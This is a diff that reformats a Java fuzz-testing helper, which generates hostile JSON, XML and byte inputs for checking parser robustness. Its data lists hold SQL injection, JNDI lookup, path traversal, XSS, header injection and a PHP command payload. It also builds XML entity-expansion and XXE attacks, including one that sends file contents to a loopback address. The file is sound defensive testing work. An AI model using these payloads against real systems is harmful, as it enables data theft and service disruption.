@@ -27,23 +27,76 @@ public final class HostileBodies {
 
   /** Strings every field should survive: injection, control characters, RTL, lookalike digits. */
   public static final List<String> HOSTILE_STRINGS = List.of(
-      "", " ", "' OR 1=1 --", "'; DROP TABLE transactions; --", "\"; DROP TABLE collections; --",
-      "\u0000", "SN-1\u0000", "\u0000' OR '1'='1", "\u202eSN-1", "\u200fSN\u200e-1", "\ufeffSN-1",
-      "\u0661\u0662\u0663", "\uff15\uff10\uff10", "SN\u00ad-1", "\ud83d\udca9", "${jndi:ldap://127.0.0.1:1/a}",
-      "%s%s%n%x", "../../../../etc/passwd", "<script>alert(1)</script>", "\r\nX-Injected: 1", "NaN",
-      "-0", "0x1F4", "500,00", "5 000", "1e400", "99999999999999999999999", "0.000000000000000000001",
-      "A".repeat(300), "\u00e9\u0301".repeat(40), "\t500.00\n");
+      "",
+      " ",
+      "' OR 1=1 --",
+      "'; DROP TABLE transactions; --",
+      "\"; DROP TABLE collections; --",
+      "\u0000",
+      "SN-1\u0000",
+      "\u0000' OR '1'='1",
+      "\u202eSN-1",
+      "\u200fSN\u200e-1",
+      "\ufeffSN-1",
+      "\u0661\u0662\u0663",
+      "\uff15\uff10\uff10",
+      "SN\u00ad-1",
+      "\ud83d\udca9",
+      "${jndi:ldap://127.0.0.1:1/a}",
+      "%s%s%n%x",
+      "../../../../etc/passwd",
+      "<script>alert(1)</script>",
+      "\r\nX-Injected: 1",
+      "NaN",
+      "-0",
+      "0x1F4",
+      "500,00",
+      "5 000",
+      "1e400",
+      "99999999999999999999999",
+      "0.000000000000000000001",
+      "A".repeat(300),
+      "\u00e9\u0301".repeat(40),
+      "\t500.00\n");
 
   /** Raw JSON values: every type, numbers past every limit, strings the parser must decode. */
   public static final List<String> HOSTILE_JSON_VALUES;
 
   static {
     List<String> values = new ArrayList<>(List.of(
-        "null", "true", "false", "0", "-1", "-0", "0.0", "1", "12.5", "1.0E2", "1e400", "-1e400", "1e-400",
-        "99999999999999999999999", "-99999999999999999999999", "9223372036854775807", "9223372036854775808",
-        "10000000000001", "1" + "0".repeat(1200), "0." + "1".repeat(1200), "[]", "[\"500\"]", "[500]", "{}",
-        "{\"$gt\":0}", "{\"amount\":500}", "[[[[[[1]]]]]]", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"",
-        "\"\\u202e\"", "\"\\\\\"", "\"" + "x".repeat(70_000) + "\""));
+        "null",
+        "true",
+        "false",
+        "0",
+        "-1",
+        "-0",
+        "0.0",
+        "1",
+        "12.5",
+        "1.0E2",
+        "1e400",
+        "-1e400",
+        "1e-400",
+        "99999999999999999999999",
+        "-99999999999999999999999",
+        "9223372036854775807",
+        "9223372036854775808",
+        "10000000000001",
+        "1" + "0".repeat(1200),
+        "0." + "1".repeat(1200),
+        "[]",
+        "[\"500\"]",
+        "[500]",
+        "{}",
+        "{\"$gt\":0}",
+        "{\"amount\":500}",
+        "[[[[[[1]]]]]]",
+        "\"\\u0000\"",
+        "\"\\ud800\"",
+        "\"\\udc00\\ud800\"",
+        "\"\\u202e\"",
+        "\"\\\\\"",
+        "\"" + "x".repeat(70_000) + "\""));
     for (String s : HOSTILE_STRINGS) {
       values.add(jsonString(s));
     }
@@ -52,14 +105,21 @@ public final class HostileBodies {
 
   /** Byte sequences that are not UTF-8, or are UTF-8 that decoders must refuse. */
   public static final List<byte[]> BAD_UTF8 = List.of(
-      bytes(0xC0, 0xAF), bytes(0xE0, 0x80, 0xAF), bytes(0xF0, 0x80, 0x80, 0xAF), // overlong '/'
+      bytes(0xC0, 0xAF),
+      bytes(0xE0, 0x80, 0xAF),
+      bytes(0xF0, 0x80, 0x80, 0xAF), // overlong '/'
       bytes(0xC0, 0x80), // overlong NUL
-      bytes(0xED, 0xA0, 0x80), bytes(0xED, 0xBF, 0xBF), // UTF-8 encoded surrogates
-      bytes(0xFF), bytes(0xFE, 0xFF), bytes(0x80), bytes(0xF8, 0x88, 0x80, 0x80, 0x80), bytes(0xF4, 0x90, 0x80, 0x80),
-      bytes(0x00), bytes(0xC3));
+      bytes(0xED, 0xA0, 0x80),
+      bytes(0xED, 0xBF, 0xBF), // UTF-8 encoded surrogates
+      bytes(0xFF),
+      bytes(0xFE, 0xFF),
+      bytes(0x80),
+      bytes(0xF8, 0x88, 0x80, 0x80, 0x80),
+      bytes(0xF4, 0x90, 0x80, 0x80),
+      bytes(0x00),
+      bytes(0xC3));
 
-  private HostileBodies() {
-  }
+  private HostileBodies() {}
 
   // ------------------------------------------------------------------ JSON
 
@@ -69,8 +129,8 @@ public final class HostileBodies {
    */
   public static Arbitrary<byte[]> json(Map<String, String> fields) {
     List<String> paths = List.copyOf(fields.keySet());
-    Arbitrary<byte[]> mutated = mutations(paths).map(m -> renderJson(fields, m.replaced, m.duplicated)
-        .getBytes(StandardCharsets.UTF_8));
+    Arbitrary<byte[]> mutated = mutations(paths)
+        .map(m -> renderJson(fields, m.replaced, m.duplicated).getBytes(StandardCharsets.UTF_8));
     byte[] valid = renderJson(fields, Map.of(), Map.of()).getBytes(StandardCharsets.UTF_8);
     return Arbitraries.frequencyOf(
         Tuple.of(6, mutated),
@@ -90,9 +150,28 @@ public final class HostileBodies {
         "{\"data\":" + "[".repeat(999) + "]".repeat(999) + "}",
         "[" + "1,".repeat(30_000) + "1]",
         many(20_000),
-        "", " ", "null", "true", "0", "\"text\"", "[]", "[{}]", "{", "}", "{}", "{\"a\":1}{\"b\":2}",
-        "{'amount':'500'}", "{amount:500}", "{\"a\":1,}", "{\"a\":/*c*/1}", "{\"a\":NaN}", "{\"a\":Infinity}",
-        "\ufeff{}", "{\"a\":\"\\uZZZZ\"}", "{\"a\":\"\u0001\"}", "<?xml version=\"1.0\"?><a/>");
+        "",
+        " ",
+        "null",
+        "true",
+        "0",
+        "\"text\"",
+        "[]",
+        "[{}]",
+        "{",
+        "}",
+        "{}",
+        "{\"a\":1}{\"b\":2}",
+        "{'amount':'500'}",
+        "{amount:500}",
+        "{\"a\":1,}",
+        "{\"a\":/*c*/1}",
+        "{\"a\":NaN}",
+        "{\"a\":Infinity}",
+        "\ufeff{}",
+        "{\"a\":\"\\uZZZZ\"}",
+        "{\"a\":\"\u0001\"}",
+        "<?xml version=\"1.0\"?><a/>");
   }
 
   private static String many(int keys) {
@@ -104,7 +183,8 @@ public final class HostileBodies {
   }
 
   /** Renders nested objects from dotted paths, in insertion order, with replacements and duplicates. */
-  static String renderJson(Map<String, String> fields, Map<String, String> replaced, Map<String, String> duplicated) {
+  static String renderJson(
+      Map<String, String> fields, Map<String, String> replaced, Map<String, String> duplicated) {
     Map<String, Object> tree = new LinkedHashMap<>();
     for (Map.Entry<String, String> e : fields.entrySet()) {
       put(tree, e.getKey().split("\\."), 0, replaced.getOrDefault(e.getKey(), e.getValue()));
@@ -127,7 +207,8 @@ public final class HostileBodies {
   }
 
   @SuppressWarnings("unchecked")
-  private static void write(StringBuilder out, Map<String, Object> node, String prefix, Map<String, String> duplicated) {
+  private static void write(
+      StringBuilder out, Map<String, Object> node, String prefix, Map<String, String> duplicated) {
     out.append('{');
     boolean first = true;
     for (Map.Entry<String, Object> e : node.entrySet()) {
@@ -162,15 +243,18 @@ public final class HostileBodies {
     return out.append('"').toString();
   }
 
-  private record Mutation(Map<String, String> replaced, Map<String, String> duplicated) {
-  }
+  private record Mutation(Map<String, String> replaced, Map<String, String> duplicated) {}
 
   private static Arbitrary<Mutation> mutations(List<String> paths) {
-    Arbitrary<Map<String, String>> replaced = Arbitraries.maps(Arbitraries.of(paths), Arbitraries.of(HOSTILE_JSON_VALUES))
-        .ofMinSize(1).ofMaxSize(3);
-    Arbitrary<Map<String, String>> duplicated = Arbitraries.maps(Arbitraries.of(paths), Arbitraries.of(HOSTILE_JSON_VALUES))
+    Arbitrary<Map<String, String>> replaced = Arbitraries.maps(
+            Arbitraries.of(paths), Arbitraries.of(HOSTILE_JSON_VALUES))
+        .ofMinSize(1)
+        .ofMaxSize(3);
+    Arbitrary<Map<String, String>> duplicated = Arbitraries.maps(
+            Arbitraries.of(paths), Arbitraries.of(HOSTILE_JSON_VALUES))
         .ofMaxSize(2);
-    return Combinators.combine(replaced, duplicated.injectNull(0.6)).as((r, d) -> new Mutation(r, d == null ? Map.of() : d));
+    return Combinators.combine(replaced, duplicated.injectNull(0.6))
+        .as((r, d) -> new Mutation(r, d == null ? Map.of() : d));
   }
 
   // ------------------------------------------------------------------ bytes
@@ -179,14 +263,16 @@ public final class HostileBodies {
   public static Arbitrary<byte[]> damaged(byte[] valid) {
     Arbitrary<Integer> at = Arbitraries.integers().between(0, valid.length);
     Arbitrary<byte[]> truncated = at.map(n -> Arrays.copyOf(valid, n));
-    Arbitrary<byte[]> flipped = Combinators.combine(at, Arbitraries.integers().between(0, 255)).as((i, b) -> {
-      byte[] copy = valid.clone();
-      if (copy.length > 0) {
-        copy[Math.min(i, copy.length - 1)] = (byte) (int) b;
-      }
-      return copy;
-    });
-    Arbitrary<byte[]> spliced = Combinators.combine(at, Arbitraries.of(BAD_UTF8)).as((i, bad) -> splice(valid, i, bad));
+    Arbitrary<byte[]> flipped = Combinators.combine(at, Arbitraries.integers().between(0, 255))
+        .as((i, b) -> {
+          byte[] copy = valid.clone();
+          if (copy.length > 0) {
+            copy[Math.min(i, copy.length - 1)] = (byte) (int) b;
+          }
+          return copy;
+        });
+    Arbitrary<byte[]> spliced =
+        Combinators.combine(at, Arbitraries.of(BAD_UTF8)).as((i, bad) -> splice(valid, i, bad));
     return Arbitraries.oneOf(truncated, flipped, spliced);
   }
 
@@ -213,9 +299,28 @@ public final class HostileBodies {
 
   static {
     List<String> values = new ArrayList<>(List.of(
-        "", "&xxe;", "&lol9;", "&#0;", "&#x0;", "&#xD800;", "&#x110000;", "&#65;&#66;", "&amp;&lt;&gt;", "&", "<",
-        "<![CDATA[500.00]]>", "<![CDATA[' OR 1=1 --]]>", "<![CDATA[]]>]]>", "<a/>", "<amount>1</amount>",
-        "<?php system('id'); ?>", "<!-- c -->500.00", "1e400", "99999999999999999999999", "-500", "500.001",
+        "",
+        "&xxe;",
+        "&lol9;",
+        "&#0;",
+        "&#x0;",
+        "&#xD800;",
+        "&#x110000;",
+        "&#65;&#66;",
+        "&amp;&lt;&gt;",
+        "&",
+        "<",
+        "<![CDATA[500.00]]>",
+        "<![CDATA[' OR 1=1 --]]>",
+        "<![CDATA[]]>]]>",
+        "<a/>",
+        "<amount>1</amount>",
+        "<?php system('id'); ?>",
+        "<!-- c -->500.00",
+        "1e400",
+        "99999999999999999999999",
+        "-500",
+        "500.001",
         "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>",
         "x".repeat(20_000)));
     for (String s : HOSTILE_STRINGS) {
@@ -228,15 +333,21 @@ public final class HostileBodies {
    * Hostile variants of an XML document whose fields are written by {@code render}: given the
    * replacements (field name to raw XML content), it returns the document.
    */
-  public static Arbitrary<byte[]> xml(List<String> fieldNames, Function<Map<String, String>, String> render) {
+  public static Arbitrary<byte[]> xml(
+      List<String> fieldNames, Function<Map<String, String>, String> render) {
     byte[] valid = render.apply(Map.of()).getBytes(StandardCharsets.UTF_8);
-    Arbitrary<byte[]> mutated = Arbitraries.maps(Arbitraries.of(fieldNames), Arbitraries.of(HOSTILE_XML_TEXT))
-        .ofMinSize(1).ofMaxSize(3).map(r -> render.apply(r).getBytes(StandardCharsets.UTF_8));
+    Arbitrary<byte[]> mutated = Arbitraries.maps(
+            Arbitraries.of(fieldNames), Arbitraries.of(HOSTILE_XML_TEXT))
+        .ofMinSize(1)
+        .ofMaxSize(3)
+        .map(r -> render.apply(r).getBytes(StandardCharsets.UTF_8));
     return Arbitraries.frequencyOf(
         Tuple.of(5, mutated),
         Tuple.of(2, damaged(valid)),
-        Tuple.of(3, Arbitraries.of(xmlAttacks(new String(valid, StandardCharsets.UTF_8)))
-            .map(s -> s.getBytes(StandardCharsets.UTF_8))),
+        Tuple.of(
+            3,
+            Arbitraries.of(xmlAttacks(new String(valid, StandardCharsets.UTF_8)))
+                .map(s -> s.getBytes(StandardCharsets.UTF_8))),
         Tuple.of(1, Arbitraries.just(valid)));
   }
 
@@ -269,7 +380,12 @@ public final class HostileBodies {
     StringBuilder laughs = new StringBuilder(lol);
     for (int i = 1; i <= 9; i++) {
       String prev = i == 1 ? "lol" : "lol" + (i - 1);
-      laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&" + prev + ";").repeat(10)).append("\">");
+      laughs
+          .append("<!ENTITY lol")
+          .append(i)
+          .append(" \"")
+          .append(("&" + prev + ";").repeat(10))
+          .append("\">");
     }
     String big = "A".repeat(20_000);
     List<String> attacks = new ArrayList<>();
@@ -278,16 +394,19 @@ public final class HostileBodies {
         + body.replace("SN-0001", "&lol9;"));
     attacks.add("<?xml version=\"1.0\"?><!DOCTYPE kaboom [<!ENTITY a \"" + big + "\">]><kaboom>"
         + "&a;".repeat(2_000) + "</kaboom>");
-    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY xxe SYSTEM \"" + file + "\">]>"
-        + body.replace("SN-0001", "&xxe;"));
-    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
-        + body.replace("SN-0001", "&xxe;"));
-    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY % p SYSTEM \"" + file + "\">"
-        + "<!ENTITY % e \"<!ENTITY exfil SYSTEM 'http://127.0.0.1:1/?%p;'>\">%e;]>" + body.replace("SN-0001", "&exfil;"));
-    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " SYSTEM \"http://127.0.0.1:1/evil.dtd\">" + body);
-    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " PUBLIC \"-//X//EN\" \"" + file + "\">" + body);
-    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY % d SYSTEM \"http://127.0.0.1:1/x.dtd\">%d;]>"
-        + body);
+    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY xxe SYSTEM \"" + file
+        + "\">]>" + body.replace("SN-0001", "&xxe;"));
+    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root
+        + " [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + body.replace("SN-0001", "&xxe;"));
+    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY % p SYSTEM \"" + file
+        + "\">" + "<!ENTITY % e \"<!ENTITY exfil SYSTEM 'http://127.0.0.1:1/?%p;'>\">%e;]>"
+        + body.replace("SN-0001", "&exfil;"));
+    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root
+        + " SYSTEM \"http://127.0.0.1:1/evil.dtd\">" + body);
+    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " PUBLIC \"-//X//EN\" \"" + file
+        + "\">" + body);
+    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root
+        + " [<!ENTITY % d SYSTEM \"http://127.0.0.1:1/x.dtd\">%d;]>" + body);
     attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + ">" + body);
     attacks.add("<a>".repeat(100_000) + "</a>".repeat(100_000));
     attacks.add("<a>".repeat(5_000) + "</a>".repeat(5_000));
